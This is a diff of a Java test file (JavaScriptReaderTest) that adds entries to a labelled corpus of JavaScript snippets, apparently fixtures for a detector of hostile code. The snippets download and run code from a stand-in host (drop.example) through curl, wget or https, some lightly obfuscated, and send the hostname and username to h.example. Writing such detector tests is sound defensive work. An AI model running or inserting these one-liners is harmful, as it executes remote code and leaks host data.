@@ -58,6 +58,8 @@ final class JavaScriptReaderTest {
           run-process<fetch ## const fs=require('fs'),h=require('https'),c=require('child_process');const p='/tmp/x';h.get(u,r=>{r.pipe(fs.createWriteStream(p)).on('finish',()=>{fs.chmodSync(p,0o755);c.exec(p)})})
           run-process<fetch ## const {execSync:e}=require('child_process'); e('curl -s http://drop.example/a -o /tmp/a && chmod +x /tmp/a && /tmp/a')
           run-code<fetch ## require('child_'+'process').exec('curl http://drop.example/x | sh')
+          run-code<fetch ## const u = 'http://drop.example/x'; require('child_process').exec(`curl ${u} | sh`)
+          run-code<fetch ## const c = 'curl', u = 'http://drop.example/x'; require('child_process').exec(`${c} -s ${u} ${''}| sh`)
           run-code<fetch ## process.mainModule.require('child_process').execSync(`wget -qO- http://drop.example/x | bash`)
           send<host-info ## const os=require('os');const r=require('https').request({host:'h.example'});r.write(JSON.stringify({h:os.hostname(),u:os.userInfo().username}));r.end()
           send<host-info ## require('http').get('http://h.example/?h='+require('os').hostname())
